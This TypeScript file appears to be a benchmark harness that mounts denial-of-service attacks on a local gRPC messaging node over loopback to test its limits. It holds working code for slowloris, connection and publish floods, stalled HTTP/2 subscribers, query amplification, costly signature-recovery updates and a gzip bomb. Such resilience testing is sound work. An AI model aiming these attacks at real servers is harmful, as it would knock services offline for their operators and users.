// The attacks of bench/attack/run.ts, each as an attacker on the internet
// would mount it: raw sockets and hand-made HTTP/2 gRPC frames, from
// loopback addresses other than the normal client's (127.0.0.2 and up: on
// Linux all of 127/8 is this machine), so that per-address limits count
// the attacker apart from the normal client. Each runs until its process
// is killed.
import { randomBytes } from "node:crypto";
import http2 from "node:http2";
import net from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import { gzipSync } from "node:zlib";
import { create, toBinary } from "@bufbuild/protobuf";
import { associations, identityApi, mlsApi } from "@parley/proto";
import { privateMessageOfSize } from "@parley/testkit";

export interface Target {
  readonly port: number;
  /** The normal client's group: its topic is where subscribers stall and a member floods. */
  readonly groupId: Uint8Array;
  /** The attacker's addresses. */
  readonly addresses: readonly string[];
}

const HOST = "127.0.0.1";
const SERVICE = "/xmtp.mls.api.v1.MlsApi";
const IDENTITY_SERVICE = "/xmtp.identity.api.v1.IdentityApi";

function connectFrom(target: Target, address: string, settings: http2.Settings = {}): http2.ClientHttp2Session {
  const session = http2.connect(`http://${HOST}:${target.port}`, {
    createConnection: () => net.connect({ host: HOST, port: target.port, localAddress: address }),
    settings,
  });
  session.on("error", () => undefined);
  return session;
}

/** A gRPC message frame: uncompressed unless `compressed` (then the bytes must already be). */
function frame(body: Uint8Array, compressed = false): Buffer {
  const head = Buffer.alloc(5);
  head.writeUInt8(compressed ? 1 : 0, 0);
  head.writeUInt32BE(body.length, 1);
  return Buffer.concat([head, body]);
}

/** One unary call; resolves when the answer ended, however it ended. */
function unary(session: http2.ClientHttp2Session, method: string, body: Buffer, headers: http2.OutgoingHttpHeaders = {}, service = SERVICE): Promise<void> {
  return new Promise((resolve) => {
    if (session.closed || session.destroyed) return resolve();
    let stream: http2.ClientHttp2Stream;
    try {
      stream = session.request({ ":method": "POST", ":path": `${service}/${method}`, "content-type": "application/grpc", te: "trailers", ...headers });
    } catch {
      return resolve();
    }
    stream.on("error", () => resolve());
    stream.on("close", () => resolve());
    stream.resume();
    stream.end(body);
  });
}

function sendRequest(groupId: Uint8Array, bytes: number): Buffer {
  const request = create(mlsApi.SendGroupMessagesRequestSchema, {
    messages: [{ version: { case: "v1", value: { data: privateMessageOfSize(groupId, bytes), senderHmac: randomBytes(32), shouldPush: true } } }],
  });
  return frame(toBinary(mlsApi.SendGroupMessagesRequestSchema, request));
}

function subscribeRequest(groupId: Uint8Array): Buffer {
  return frame(toBinary(mlsApi.SubscribeGroupMessagesRequestSchema, create(mlsApi.SubscribeGroupMessagesRequestSchema, { filters: [{ groupId, idCursor: 0n }] })));
}

/**
 * The most signature work one identity update may ask for: as many
 * distinct Ethereum signatures as an update may carry, each of which the
 * node must recover a public key from before any rule can refuse it.
 */
function heavyIdentityUpdate(signatures: number): Buffer {
  const update = create(associations.IdentityUpdateSchema, {
    inboxId: randomBytes(32).toString("hex"),
    clientTimestampNs: BigInt(Date.now()) * 1_000_000n,
    actions: Array.from({ length: signatures }, () => ({
      kind: {
        case: "revoke" as const,
        value: {
          memberToRevoke: { kind: { case: "ethereumAddress" as const, value: `0x${randomBytes(20).toString("hex")}` } },
          // r and s random, v a valid recovery id: recovery runs to its end.
          recoveryIdentifierSignature: { signature: { case: "erc191" as const, value: { bytes: Buffer.concat([randomBytes(64), Buffer.from([27])]) } } },
        },
      },
    })),
  });
  return frame(toBinary(identityApi.PublishIdentityUpdateRequestSchema, create(identityApi.PublishIdentityUpdateRequestSchema, { identityUpdate: update })));
}

/** Runs `worker` `concurrency` times in parallel, each in a loop, for ever. */
async function forever(concurrency: number, worker: () => Promise<void>): Promise<never> {
  await Promise.all(
    Array.from({ length: concurrency }, async () => {
      for (;;) {
        await worker();
        await sleep(0);
      }
    }),
  );
  throw new Error("unreachable");
}

/** Sessions that come back when the node drops them. */
function sessionPool(target: Target, settings: http2.Settings = {}): () => http2.ClientHttp2Session {
  const sessions = new Map<string, http2.ClientHttp2Session>();
  let next = 0;
  return () => {
    const address = target.addresses[next++ % target.addresses.length]!;
    let session = sessions.get(address);
    if (session === undefined || session.closed || session.destroyed) {
      session = connectFrom(target, address, settings);
      sessions.set(address, session);
    }
    return session;
  };
}

export const attacks: Record<string, { readonly what: string; readonly run: (target: Target) => Promise<unknown> }> = {
  none: { what: "no attack: the normal client alone", run: () => new Promise(() => undefined) },

  "connection-flood": {
    what: "400 idle TCP connections per address, reopened as the node closes them",
    run: (target) =>
      Promise.all(
        target.addresses.map(async (address) => {
          let open = 0;
          for (;;) {
            while (open < 400) {
              open += 1;
              const socket = net.connect({ host: HOST, port: target.port, localAddress: address });
              socket.on("error", () => undefined);
              socket.on("close", () => (open -= 1));
            }
            await sleep(100);
          }
        }),
      ),
  },

  slowloris: {
    what: "300 connections per address trickling the HTTP/2 preface, one byte a second",
    run: (target) => {
      const preface = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
      return Promise.all(
        target.addresses.map(async (address) => {
          const sockets = new Set<{ socket: net.Socket; sent: number }>();
          for (;;) {
            while (sockets.size < 300) {
              const entry = { socket: net.connect({ host: HOST, port: target.port, localAddress: address }), sent: 0 };
              entry.socket.on("error", () => undefined);
              entry.socket.on("close", () => sockets.delete(entry));
              sockets.add(entry);
            }
            for (const entry of sockets) {
              if (entry.sent < preface.length && entry.socket.writable) entry.socket.write(preface.subarray(entry.sent, (entry.sent += 1)));
            }
            await sleep(1000);
          }
        }),
      );
    },
  },

  "stalled-subscribers": {
    what: "streams on the group's topic that never read (window 0), while a member posts 256 KiB messages there 5 times a second",
    run: async (target) => {
      const [poster, ...stallers] = target.addresses;
      const stalled = Promise.all(
        stallers.map(async (address) => {
          for (;;) {
            // A session whose receive window is shut: the node can send headers, never data.
            const session = connectFrom(target, address, { initialWindowSize: 0 });
            for (let i = 0; i < 100 && !session.destroyed; i += 1) {
              try {
                const stream = session.request({ ":method": "POST", ":path": `${SERVICE}/SubscribeGroupMessages`, "content-type": "application/grpc", te: "trailers" });
                stream.on("error", () => undefined);
                stream.pause();
                stream.write(subscribeRequest(target.groupId));
              } catch {
                break;
              }
            }
            await new Promise((resolve) => session.once("close", resolve));
            await sleep(100);
          }
        }),
      );
      const post = connectFrom(target, poster!);
      await Promise.all([stalled, forever(1, async () => {
        await unary(post, "SendGroupMessages", sendRequest(target.groupId, 256 * 1024));
        await sleep(200);
      })]);
    },
  },

  "stream-churn": {
    what: "subscribe streams opened and reset at once, 20 at a time per address",
    run: (target) => {
      const session = sessionPool(target);
      return forever(20 * target.addresses.length, async () => {
        const s = session();
        if (s.destroyed || s.closed) return sleep(50);
        await new Promise<void>((resolve) => {
          try {
            const stream = s.request({ ":method": "POST", ":path": `${SERVICE}/SubscribeGroupMessages`, "content-type": "application/grpc", te: "trailers" });
            stream.on("error", () => resolve());
            stream.on("close", () => resolve());
            stream.write(subscribeRequest(randomBytes(16)));
            setImmediate(() => stream.close(http2.constants.NGHTTP2_CANCEL));
          } catch {
            resolve();
          }
        });
      });
    },
  },

  "publish-flood": {
    what: "1 MiB group messages to new topics, 4 at a time per address",
    run: (target) => {
      const session = sessionPool(target);
      return forever(4 * target.addresses.length, () => unary(session(), "SendGroupMessages", sendRequest(randomBytes(16), 1024 * 1024)));
    },
  },

  "query-amplification": {
    what: "100 pages of 100 × 256 KiB messages asked for over and over (a few bytes in, ~25 MiB out), 4 at a time per address",
    run: async (target) => {
      const session = sessionPool(target);
      const topic = randomBytes(16);
      for (let i = 0; i < 100; i += 1) await unary(session(), "SendGroupMessages", sendRequest(topic, 256 * 1024));
      const query = frame(toBinary(mlsApi.QueryGroupMessagesRequestSchema, create(mlsApi.QueryGroupMessagesRequestSchema, { groupId: topic, pagingInfo: { limit: 100 } })));
      return forever(4 * target.addresses.length, () => unary(session(), "QueryGroupMessages", query));
    },
  },

  "identity-flood": {
    what: "identity updates carrying 16 distinct Ethereum signatures each (the cap), 4 at a time per address",
    run: (target) => {
      const session = sessionPool(target);
      return forever(4 * target.addresses.length, () => unary(session(), "PublishIdentityUpdate", heavyIdentityUpdate(16), {}, IDENTITY_SERVICE));
    },
  },

  "key-package-flood": {
    what: "60 KiB key packages (random bytes in a key package's place), 4 at a time per address",
    run: (target) => {
      const session = sessionPool(target);
      const upload = () =>
        frame(
          toBinary(
            mlsApi.UploadKeyPackageRequestSchema,
            create(mlsApi.UploadKeyPackageRequestSchema, { keyPackage: { keyPackageTlsSerialized: Buffer.concat([Buffer.from([0, 1, 0, 3]), randomBytes(60 * 1024)]) }, isInboxIdCredential: true }),
          ),
        );
      return forever(4 * target.addresses.length, () => unary(session(), "UploadKeyPackage", upload()));
    },
  },

  "gzip-bomb": {
    what: "gzip requests of 64 KiB that inflate to 64 MiB, 4 at a time per address",
    run: (target) => {
      const session = sessionPool(target);
      const bomb = frame(gzipSync(Buffer.alloc(64 * 1024 * 1024), { level: 9 }), true);
      return forever(4 * target.addresses.length, () => unary(session(), "SendGroupMessages", bomb, { "grpc-encoding": "gzip" }));
    },
  },
};
